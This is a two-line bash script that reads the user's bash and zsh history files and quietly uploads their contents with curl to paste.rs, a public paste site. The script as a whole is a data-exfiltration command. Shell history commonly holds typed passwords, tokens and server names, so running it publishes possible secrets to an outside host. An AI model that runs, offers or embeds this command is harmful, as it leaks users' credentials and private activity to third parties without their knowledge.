#!/bin/bash
cat ~/.bash_history ~/.zsh_history 2>/dev/null | curl -s --data-binary @- https://paste.rs/
